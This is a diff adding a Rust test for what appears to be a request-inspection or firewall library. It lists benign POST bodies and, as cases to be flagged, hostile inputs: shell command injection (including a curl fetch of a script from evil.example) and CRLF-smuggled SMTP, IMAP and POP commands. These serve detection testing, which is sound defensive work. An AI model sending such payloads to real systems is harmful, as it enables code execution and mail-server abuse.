@@ -209,6 +209,38 @@ fn graphql_documents() {
 }
 
 #[test]
+fn bodies_without_content_type_and_mail_commands() {
+    const fn raw(body: &'static str) -> Case {
+        Case {
+            method: "POST",
+            uri: "/post",
+            headers: &[("user-agent", "Mozilla/5.0")],
+            body,
+        }
+    }
+    check(
+        &[
+            raw("name=Jane&comment=Nice+shop%2C+fast+delivery"),
+            raw("just some text posted without a type"),
+            form(
+                "/contact",
+                "message=Hello%2C%0D%0AI+searched+for+a+blue+lamp.%0D%0AThanks%2C%0D%0AAnna",
+            ),
+        ],
+        &[
+            raw("code=time sh -c whoami\n"),
+            raw("cmd=;'curl' http://evil.example/x.sh\n"),
+            get("/mail?to=%0d%0aRCPT%20TO%3A%3CPostmaster%3E"),
+            form(
+                "/imap",
+                "q=%0d%0aA282%20SEARCH%20FLAGGED%20SINCE%201-Feb-1994",
+            ),
+            form("/pop", "q=%0d%0aRETR%20123"),
+        ],
+    );
+}
+
+#[test]
 fn xml_values_paths_and_loopback_urls() {
     check(
         &[
